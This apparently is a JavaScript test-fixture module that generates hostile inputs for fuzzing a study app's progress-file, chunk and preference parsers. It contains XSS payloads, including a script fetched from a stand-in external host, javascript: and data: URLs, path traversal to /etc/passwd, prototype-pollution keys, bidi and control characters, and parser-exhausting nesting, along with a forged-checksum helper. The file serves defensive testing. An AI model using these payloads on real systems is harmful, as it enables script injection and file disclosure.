/**
 * What somebody might put where the app reads from outside, by what it is meant to do. Whatever
 * would run calls `alert`, which no page in good order does, or asks another host.
 */

import { crc32 } from './crc32.mjs';

const AWAY = 'https://elsewhere.invalid/';

/** Script, in every dress that a page could undress. */
const SCRIPT = {
  'a script': '<script>alert(1)</script>',
  'a script that closes what is around it': `"'></textarea></title></style></script><script>alert(1)</script>`,
  'a script from elsewhere': `<script src="${AWAY}x.js"></script>`,
  'an image that fails': '<img src=x onerror=alert(1)>',
  'an image from elsewhere': `<img src="${AWAY}x.png">`,
  'a drawing that loads': '<svg onload=alert(1)>',
  'a drawing with a script': '<svg><script>alert(1)</script></svg>',
  'mathematics with a link': '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  'a frame': `<iframe src="javascript:alert(1)"></iframe>`,
  'a frame with a document': `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  'an object': `<object data="javascript:alert(1)"></object>`,
  'a stylesheet': `<style>@import "${AWAY}x.css";*{display:none}</style>`,
  'a base': `<base href="${AWAY}">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  'a form': `<form action="${AWAY}"><input name=q autofocus onfocus=alert(1)></form>`,
  'details that open': '<details open ontoggle=alert(1)>',
  'an attribute': '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  'a handler in single quotes': "' onfocus='alert(1)' autofocus='",
  'a mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a comment': '<!--><img src=x onerror=alert(1)>-->',
  'a section of CDATA': '<![CDATA[><img src=x onerror=alert(1)>]]>',
  'a template': '${alert(1)}{{constructor.constructor("alert(1)")()}}<%= alert(1) %>',
  'entities': '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;',
  'script in full width': '＜script＞alert(1)＜/script＞',
};

/** Addresses that run, leave, or read files. */
const ADDRESSES = {
  'javascript:': 'javascript:alert(1)',
  'javascript: in capitals': 'JaVaScRiPt:alert(1)',
  'javascript: with a tab': 'java\tscript:alert(1)',
  'javascript: with a line break': 'java\nscript:alert(1)',
  'javascript: behind a space': ' \u0001javascript:alert(1)',
  'javascript: in entities': '&#106;avascript&colon;alert(1)',
  'javascript: with slashes': 'javascript://%0aalert(1)',
  'javascript: encoded': '%6A%61%76%61%73%63%72%69%70%74:alert(1)',
  'vbscript:': 'vbscript:msgbox(1)',
  'data: with a document': 'data:text/html,<script>alert(1)</script>',
  'data: with a drawing': 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'a host without a scheme': '//elsewhere.invalid/',
  'a host with backslashes': '\\\\elsewhere.invalid\\x',
  'a file of the machine': 'file:///etc/passwd',
  'a way up': '../../../../etc/passwd',
  'a way up, encoded': '..%2f..%2f..%2fetc%2fpasswd%00',
  'a user before the host': 'https://127.0.0.1@elsewhere.invalid/',
};

/** Names that mean something to JavaScript or to this app. */
const NAMES = {
  'the prototype': '__proto__',
  'the constructor': 'constructor',
  'a method of every object': 'hasOwnProperty',
  'a property of the window': 'toString',
  'the length': 'length',
  'a record of somebody else': 'mianka/log/0000000000000000/4294967296',
  'a key of its own': 'mianka/preferences',
  'nothing': '',
  'null': 'null',
  'undefined': 'undefined',
  'not a number': 'NaN',
};

/** Characters that lie about their order, their number or their being there. */
const CHARACTERS = {
  'a lone first half': '\ud83d',
  'a lone second half': '\ude00',
  'halves the wrong way round': '\ude00\ud83d-\udfff\ud800',
  'text from right to left': '\u202etxt.exe\u202c \u2066abc\u2069 \u200f',
  'an override without an end': 'abc\u202e\u202d\u2067\u2068',
  'a zero': 'a\u0000b\u0000<script>alert(1)</script>',
  'control characters': '\u0001\u0008\u000b\u001b[2J\u007f\u0085\u2028\u2029',
  'characters without width': '\u200b\u200c\u200d\u2060\ufeff',
  'no characters': '\ufffe\uffff\ufdd0',
  'a thousand accents': `a${'\u0301'.repeat(1000)}`,
  'a family': '👨‍👩‍👧‍👦🏳️‍🌈🇨🇳',
  'a broken percent sign': '%%%E0%A4%A%u0041%ff%00',
};

/** Numbers where numbers are, that are none or too many. */
const NUMBERS = {
  'a negative number': '-1',
  'a number with a fraction': '1.5',
  'as much as 32 bits hold': '4294967295',
  'more than 32 bits': '4294967296',
  'as much as 53 bits hold': '9007199254740991',
  'more than 53 bits': '9007199254740993',
  'the last moment of JavaScript': '8640000000000000',
  'more than 64 bits': '18446744073709551616',
  'more than any': '1e999',
  'less than any': '-1e999',
  'a number in words of another base': '0x7fffffffffffffff',
  'ten thousand digits': '9'.repeat(10_000),
};

/** Shapes that a reader may fall over. */
const SHAPES = {
  'ten thousand lists in each other': '['.repeat(10_000),
  'closed lists in each other': '['.repeat(5_000) + ']'.repeat(5_000),
  'ten thousand objects in each other': '{"a":'.repeat(10_000),
  'closed objects in each other': '{"body":'.repeat(5_000) + '1' + '}'.repeat(5_000),
  'a prototype in an object': '{"__proto__":{"language":"en","shortcuts":false},"constructor":{"prototype":{"x":1}}}',
  'a key twice': '{"theme":"dark","theme":"light","format":"mianka-progress","format":"other"}',
  'a list': '[1,"2",null,{},[]]',
  'half an object': '{"v":2,"sum":"',
  'a mark of byte order': '\ufeff{"v":2}',
  'half a million characters': '面'.repeat(500_000),
};

export const PAYLOADS = Object.entries({
  ...SCRIPT,
  ...ADDRESSES,
  ...NAMES,
  ...CHARACTERS,
  ...NUMBERS,
  ...SHAPES,
}).map(([name, text]) => ({ name, text }));

/** Ten million characters, for the doors that are wide enough. */
export const huge = () => '<b>'.repeat(3_333_333) + '!';

/** Whether a text is a number as JSON has it, so that it can stand without quotes. */
const isNumber = (text) => /^-?\d+(\.\d+)?(e\d+)?$/.test(text);

const asJson = (text) => (isNumber(text) ? text : JSON.stringify(text));

/** A review, each of its fields as JSON, as a progress file spells it. */
const REVIEW = {
  writer: '"00000000000000aa"',
  counter: '0',
  order: '1795435200000',
  at: '1795435200000',
  offset: '480',
  type: '"review"',
  card: '"long-text"',
  rating: '3',
  seconds: '10',
};

const spelled = (fields) => `{${Object.entries(fields).map(([k, v]) => `"${k}":${v}`).join(',')}}`;

/** Records with a payload in one field each, every field in turn. */
export function recordsWith(text) {
  const value = asJson(text);
  const note = { ...REVIEW, type: '"flag"', note: value };
  const setting = { ...REVIEW, type: '"set"', setting: value, value };
  const weights = { ...REVIEW, type: '"set"', setting: '"weights"', weights: `[${value}]` };
  const undo = { ...REVIEW, type: '"undo"', undoes: `{"writer":${value},"counter":${value}}` };
  const fields = Object.keys(REVIEW).map((field) => ({ ...REVIEW, [field]: value }));
  const foreign = { ...REVIEW, [JSON.stringify(text).slice(1, -1)]: value };
  return [...fields, note, setting, weights, undo, foreign].map(spelled);
}

/** The text of a progress file with one such record. */
export function fileWith(record) {
  return `{"format":"mianka-progress","version":2,"events":[${record}]}`;
}

/** Chunks with a payload in one place each; the checksum is right, as a forger would have it. */
export function chunksWith(text) {
  const value = asJson(text);
  const run = (fields) =>
    spelled({ writer: '"00000000000000ab"', first: '0', at: '1795435200000', offset: '0', log: '[[3,0,0,1]]', ...fields });
  const body = (fields) => spelled({ cards: '["long-text"]', runs: `[${run({})}]`, ...fields });
  const bodies = [
    value,
    body({ cards: `[${value}]` }),
    body({ runs: value }),
    ...['writer', 'first', 'at', 'offset', 'lead', 'log'].map((field) => body({ runs: `[${run({ [field]: value })}]` })),
    ...[0, 1, 2, 3].map((place) => {
      const entry = ['3', '0', '0', '1'].map((usual, n) => (n === place ? value : usual));
      return body({ runs: `[${run({ log: `[[${entry}]]` })}]` });
    }),
    body({ others: `[${recordsWith(text).join(',')}]` }),
  ];
  return bodies.map((body) => `{"v":2,"sum":"${checksum(body)}","body":${body}}`);
}

/** Texts for the small records: preferences, what is remembered of exports, the erasures. */
export function preferencesWith(text) {
  const value = asJson(text);
  return spelled({ language: value, theme: value, shortcuts: value });
}

export function exportMemoryWith(text) {
  const value = asJson(text);
  return spelled({ at: value, reviews: value, later: value });
}

/** The checksum that chunks carry. */
function checksum(text) {
  return crc32(Buffer.from(text, 'utf8')).toString(16).padStart(8, '0');
}
